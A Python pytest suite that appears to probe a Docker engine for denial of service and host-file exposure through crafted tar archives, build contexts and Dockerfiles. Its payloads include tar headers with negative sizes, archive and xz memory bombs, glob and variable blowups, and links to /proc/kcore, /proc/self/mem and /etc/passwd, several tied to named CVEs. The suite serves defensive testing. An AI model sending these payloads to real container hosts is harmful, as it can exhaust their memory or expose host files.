"""Advisories about builds and archives: contexts and tars that keep an engine busy for ever, or fill its memory."""

from __future__ import annotations

import functools
import gzip
import hashlib
import json
import lzma
import tarfile
import time
from collections.abc import Callable

import pytest
from archives import Member, directory, link, tar_of
from attack_target import Response, Target, busybox_members
from attacks import attack
from engine_memory import memory_for

#: An attack of this kind would take hours. What withstands it takes six seconds at most, and more on a busy machine.
SECONDS = 60
MEBIBYTE = 1 << 20
Send = Callable[[Target, bytes], Response]


def build(target: Target, tar: bytes) -> Response:
    """Send a tar as the context of a build."""
    return target.send("POST", "/build?forcerm=1", tar, seconds=SECONDS)


def put(target: Target, tar: bytes) -> Response:
    """Copy a tar into a new container."""
    container = target.create("true")
    return target.send("PUT", f"/containers/{container}/archive?path=/tmp", tar, seconds=SECONDS)


def add(target: Target, tar: bytes) -> Response:
    """Let a Dockerfile add a tar, which is unpacked."""
    return target.build("FROM busybox\nADD archive.tar /x/\n", ("archive.tar", tar))[1]


def load(target: Target, tar: bytes) -> Response:
    """Load a tar as an image archive."""
    return target.send("POST", "/images/load", tar, seconds=SECONDS)


def import_image(target: Target, tar: bytes) -> Response:
    """Import a tar as an image."""
    return target.send("POST", f"/images/create?fromSrc=-&repo={target.name_image()}", tar, seconds=SECONDS)


every_door = pytest.mark.parametrize("send", [build, put, add, load, import_image])


def is_slow(target: Target, work: Callable[[], object]) -> bool:
    """Tell whether the engine needs too long for something, or does not answer others afterwards."""
    begin = time.monotonic()
    try:
        work()
        target.send("GET", "/_ping", seconds=SECONDS)
    except TimeoutError:
        return True
    return time.monotonic() - begin > SECONDS


def header(name: str, size: int = 0, kind: bytes = tarfile.REGTYPE) -> bytes:
    """Return the header of a member, whose size may be negative."""
    member = tarfile.TarInfo(name)
    member.type = kind
    block = bytearray(member.tobuf(tarfile.GNU_FORMAT))
    if size < 0:
        block[124:136] = b"\xff" + ((1 << 88) + size).to_bytes(11, "big")
    else:
        block[124:136] = b"%011o\0" % size
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


# -- headers ---------------------------------------------------------------------------------------------------


@every_door
@attack()
def test_member_that_ends_before_it_begins(target: Target, send: Send) -> None:
    """A member's size is negative, so that the member after it is the same one again (CVE-2025-8194)."""
    for size in (-512, -1024, -(1 << 40)):
        tar = header("first") + header("second", size) + header("third") * 2 + b"\0" * 1024
        if is_slow(target, lambda tar=tar: send(target, tar)):  # type: ignore[misc]
            target.reached("the engine reads the same member again and again")
            return


@every_door
@attack()
def test_extended_header_of_many_digits(target: Target, send: Send) -> None:
    """An extended header is a megabyte of digits: a search for numbers in it takes hours (CVE-2024-6232)."""
    digits = b"1" * MEBIBYTE
    tar = header("extended", len(digits), tarfile.XHDTYPE) + digits + header("file") + b"\0" * 1024
    if is_slow(target, lambda: send(target, tar)):
        target.reached("the engine is busy with a header")


@every_door
@attack(exception="On import, Docker 20.10 holds the header in memory; 28.5 withstands it", since=28)
def test_extended_header_of_much_memory(target: Target, send: Send) -> None:
    """A compressed archive of 300 KB has an extended header of 300 MB."""
    size = 300 * MEBIBYTE
    if memory_for(target.host, lambda: send(target, large_header(size))) > size // 2:
        target.reached("the engine holds the header in memory")


@functools.cache  # for all doors and rungs, because it takes seconds to make
def large_header(size: int) -> bytes:
    """Return a compressed tar with an extended header of so many zeros."""
    head = header("extended", size, tarfile.XHDTYPE)
    return gzip.compress(head, 1) + gzip.compress(b"\0" * size, 1) + gzip.compress(header("file") + b"\0" * 1024, 1)


def extended(kind: bytes, **values: bytes) -> bytes:
    """Return an extended header, for the next member or for all that follow. In names, `_` stands for a dot."""
    data = b""
    for name, value in values.items():
        rest = b" %s=%s\n" % (name.replace("_", ".").encode(), value)
        length = len(rest) + len(str(len(rest)))
        length += len(str(length)) - len(str(len(rest)))
        data += b"%d%s" % (length, rest)
    return header("extended", len(data), kind) + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)


@functools.cache
def tar_of_headers(kind: bytes) -> bytes:
    """Return a compressed tar of a few KB with 50 members, each of which has an extended header of a megabyte."""
    value = b"a" * (MEBIBYTE - 512)
    members = [extended(kind, **{f"comment{number}": value}) + header(f"file{number}") for number in range(50)]
    return gzip.compress(b"".join(members) + b"\0" * 1024, 1)


@every_door
@attack(exception="Docker's builder needs more memory for them, at least for a while")
def test_headers_of_much_memory(target: Target, send: Send) -> None:
    """Each member of a compressed archive has an extended header of a megabyte, for itself or for all members."""
    for kind in (tarfile.XGLTYPE, tarfile.XHDTYPE):
        if memory_for(target.host, lambda kind=kind: send(target, tar_of_headers(kind))) > 30 * MEBIBYTE:  # type: ignore[misc]
            target.reached("the engine holds all headers in memory")


@every_door
@attack()
def test_map_of_a_sparse_file(target: Target, send: Send) -> None:
    """The map of a sparse file has millions of empty areas, and is compressed to a few KB (CVE-2025-58183)."""
    count = 1_500_000
    areas = f"{count}\n".encode() + b"0\n0\n" * count
    areas += b"\0" * (-len(areas) % tarfile.BLOCKSIZE)
    head = extended(
        tarfile.XHDTYPE, GNU_sparse_major=b"1", GNU_sparse_minor=b"0", GNU_sparse_name=b"x", GNU_sparse_realsize=b"10"
    )
    tar = gzip.compress(head + header("x", len(areas)) + areas + b"\0" * 1024, 1)
    if memory_for(target.host, lambda: send(target, tar)) > 50 * MEBIBYTE:
        target.reached("the engine holds the map in memory")


@every_door
@attack()
def test_dictionary_of_much_memory(target: Target, send: Send) -> None:
    """An archive of a few KB in the format of xz wants 1 GB of memory to be unpacked."""
    # The memory is needed as far as it is filled, so the archive has a part of a gigabyte in it.
    if memory_for(target.host, lambda: send(target, large_dictionary(200 * MEBIBYTE))) > 100 * MEBIBYTE:
        target.reached("the engine has needed the memory")


@functools.cache
def large_dictionary(size: int) -> bytes:
    """Return a tar with so many zeros, compressed with a dictionary of 1 GB."""
    filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 30, "preset": 0}]
    return lzma.compress(header("zeros", size) + bytes(size + 1024), lzma.FORMAT_XZ, filters=filters)


@every_door
@attack()
def test_damaged_compression(target: Target, send: Send) -> None:
    """The compressed data of an archive is damaged, in each format: the response is complete, without exceptions."""
    content = tar_of(("file", bytes(range(256)) * 400))
    for packed in (gzip.compress(content), lzma.compress(content), b"BZh9" + content[:3000], b"\x1f\x8b\x08\0" * 999):
        damaged = packed[:100] + b"\xff" * 60 + packed[160:]
        for data in (damaged, packed[: len(packed) // 2], packed[:20], packed + b"more"):
            text = send(target, data).data
            if b"Error:" in text or b"zlib" in text:
                target.reached(f"the text of an exception: {text[-300:]!r}")


@attack()
def test_opaque_directory_again_and_again(target: Target) -> None:
    """A layer has thousands of files, and then thousands of whiteouts of all files below (GHSA-rp3h-jf77-q9p4)."""
    count = 5000
    files: list[Member] = [directory("d"), *((f"d/{number}", b"") for number in range(count))]
    whiteouts: list[Member] = [("d/.wh..wh..opq", b"")] * count

    def use() -> None:
        if image := target.import_image(*files, *whiteouts, may_fail=True):
            target.create("true", image=image)

    if is_slow(target, use):
        target.reached("the engine goes through the directory for each whiteout")


@attack()
def test_links_in_the_path_of_each_member(target: Target) -> None:
    """The path of each member leads through a chain of links, each of which goes through the one before."""
    links = [link("l0", "."), *(link(f"l{number}", f"l{number - 1}/l{number - 1}") for number in range(1, 30))]
    members: list[Member] = [*links, *((f"l29/{number}", b"") for number in range(500))]
    if is_slow(target, lambda: target.import_image(*members, may_fail=True)):
        target.reached("the engine follows links for too long")


@attack()
def test_name_of_a_megabyte(target: Target) -> None:
    """The name of a member, the target of a COPY and a WORKDIR have hundreds of thousands of directories in them."""
    deep = "a/" * 200_000
    tar = extended(tarfile.XHDTYPE, path=f"{deep}file".encode()) + header("file") + b"\0" * 1024
    for dockerfile in ("ADD archive.tar /x/", f"COPY archive.tar /{deep}", f"WORKDIR /{deep}\nRUN true"):
        if is_slow(target, lambda line=dockerfile: target.build(f"FROM busybox\n{line}\n", ("archive.tar", tar))):  # type: ignore[misc]
            target.reached("the engine is busy with a name")


@attack()
def test_layer_again_and_again(target: Target) -> None:
    """An image consists of one layer of the archive 3,000 times, which would be unpacked so often."""
    layer = tar_of(*[(f"file{number}", b"x" * 50_000) for number in range(50)])
    root = {"type": "layers", "diff_ids": [f"sha256:{hashlib.sha256(layer).hexdigest()}"] * 3000}
    config = json.dumps({"architecture": "amd64", "os": "linux", "config": {}, "rootfs": root}).encode()
    entry = {"Config": "config.json", "RepoTags": [f"{target.label}:latest"], "Layers": ["layer.tar"] * 3000}
    members: list[Member] = [("config.json", config), ("manifest.json", json.dumps([entry]).encode())]

    def use() -> None:
        target.load(*members, ("layer.tar", layer))
        target.create("true", image=f"{target.label}:latest")

    if is_slow(target, use):
        target.reached("the engine unpacks the layer thousands of times")


@attack()
def test_way_up_and_down(target: Target) -> None:
    """Paths and links go into a directory, which is a thousand directories below others, and up again, many times."""
    top, links = "d/" * 1000, [link(f"{'d/' * 1000}{number}", f"{'x/../' * 700}{number + 1}") for number in range(20)]
    image = target.import_image(*busybox_members(target.host), directory(f"{top}x"), *links, link("etc", f"/{top}0"))
    container = target.create("true", image=image, User="user", WorkingDir=f"/{top}0")
    paths = [f"/{top}{'x/../' * 9000}", f"/{top}0", "/etc/passwd"]

    def use() -> None:
        target.start(container)
        for path in paths:
            target.get(container, path)
            target.head(container, path)
            target.put(container, path, ("file", b"x"))

    if is_slow(target, use):
        target.reached("the engine goes up and down for too long")


# -- contexts --------------------------------------------------------------------------------------------------

NAME = "a" * 200
STARS = "*a" * 12 + "*b"


@pytest.mark.parametrize("pattern", [STARS, "?*" * 60 + "b", "**/a/" * 40 + "b", "[" * 100_000])
@attack()
def test_pattern_that_matches_slowly(target: Target, pattern: str) -> None:
    """A pattern in .dockerignore has many stars, and the context has a name that nearly matches it."""
    deep = "/".join("a" * 100)
    context: list[Member] = [(".dockerignore", f"{pattern}\n".encode()), (NAME, b"x"), (deep, b"x")]
    if is_slow(target, lambda: target.build("FROM scratch\nCOPY . /\n", *context)):
        target.reached("the engine tries all ways in which a pattern may match")


@pytest.mark.parametrize("pattern", [STARS, "?*" * 60 + "b"])
@attack()
def test_source_that_matches_slowly(target: Target, pattern: str) -> None:
    """The source of a COPY has many stars, and the context has a name that nearly matches it."""
    if is_slow(target, lambda: target.build(f"FROM scratch\nCOPY {pattern} /\n", (NAME, b"x"))):
        target.reached("the engine tries all ways in which a pattern may match")


@pytest.mark.parametrize("pattern", ["[z-a]", "[]", "[^]", "a[]b", "[", "\\", "(", "a{9999999}", "[[:alpha:]]"])
@attack()
def test_pattern_that_is_none(target: Target, pattern: str) -> None:
    """A pattern in .dockerignore and the source of a COPY are no valid patterns."""
    for context in ([(".dockerignore", f"{pattern}\n".encode())], []):
        _, response = target.build(f"FROM scratch\nCOPY x{pattern} Dockerfile* /x/\n", *context)
        if "position" in response.error or "Error" in response.error:
            target.reached(f"the text of an exception: {response.error}")


@pytest.mark.parametrize(
    "dockerfile",
    [
        "#a=x" + " " * 300_000 + "y\nFROM scratch\n",
        "A" * 500_000 + " x\n",
        "FROM scratch\nRUN " + "--a " * 100_000,
        "FROM scratch\nENV a=" + r"\a" * 400_000,
        "FROM scratch\nENV a=" + "'a'" * 200_000,
        "FROM scratch\nENV a=" + "${a:-" * 100_000 + "}" * 100_000,
        "FROM scratch\nCMD " + "[" * 200_000,
        "FROM scratch\nEXPOSE " + "9" * 5000,
        "FROM scratch\nHEALTHCHECK --retries=x --interval=" + "9" * 500 + "h CMD true",
        "FROM scratch\nONBUILD " + "ONBUILD " * 50_000,
        "FROM scratch\nWORKDIR " + "a" * 900_000,
    ],
    ids=[
        "directive",
        "keyword",
        "flags",
        "escapes",
        "quotes",
        "variables",
        "array",
        "port",
        "numbers",
        "triggers",
        "word",
    ],
)
@attack()
def test_dockerfile_that_is_read_slowly(target: Target, dockerfile: str) -> None:
    """A Dockerfile of less than a megabyte takes hours to read, or ends in an exception."""
    responses: list[Response] = []
    if is_slow(target, lambda: responses.append(target.build(dockerfile)[1])):
        target.reached("the engine is busy with a Dockerfile")
    elif "Error:" in responses[0].error[-300:] or "Error:" in responses[0].error[:300]:
        target.reached(f"the text of an exception: {responses[0].error[-300:]}")


@attack(exception="Docker has no limit: the memory of 28.5 grew by 10 GB, and 20.10 was busy for more than 100 seconds")
def test_variable_that_doubles(target: Target) -> None:
    """Each line of a Dockerfile makes a variable twice as long, until it is longer than any memory."""
    lines = ["FROM scratch", "ENV a=0123456789", *["ENV a=$a$a"] * 22, "LABEL b=$a$a$a$a"]
    if memory_for(target.host, lambda: target.build("\n".join(lines))) > 200 * MEBIBYTE:
        target.reached("the engine holds the variable in memory")


@attack()
def test_archive_of_the_host_in_a_directory(target: Target) -> None:
    """A directory that is added has links to a tar of the host, which must not be unpacked."""
    links = [link("d/a.tar", f"{target.canary}/archive.tar"), link("d/b", f"{'../' * 20}{target.canary}/archive.tar")]
    for source in ("d", "d/", "d/*", "d/a.tar", "."):
        name, _ = target.build(f"FROM busybox\nADD {source} /x/\n", directory("d"), *links)
        if container := target.create("true", image=name):
            target.read_everywhere(container, "/x")


@pytest.mark.parametrize("file", ["/dev/zero", "/proc/kcore", "/proc/kmsg", "/proc/self/mem"])
@attack()
def test_file_of_the_context_without_an_end(target: Target, file: str) -> None:
    """The Dockerfile, .dockerignore and a source are links to a file of the host that never ends."""
    context = [link(".dockerignore", file), link("source", file), directory("d"), link("d/x", file)]
    for dockerfile in ("FROM scratch\nCOPY source /\n", "FROM scratch\nADD d /\n", "FROM scratch\nCOPY . /\n"):
        if is_slow(target, lambda text=dockerfile: target.build(text, *context)):  # type: ignore[misc]
            target.reached("the engine reads the file")
    if is_slow(target, lambda: target.build("", link("Dockerfile", file))):
        target.reached("the engine reads the file")
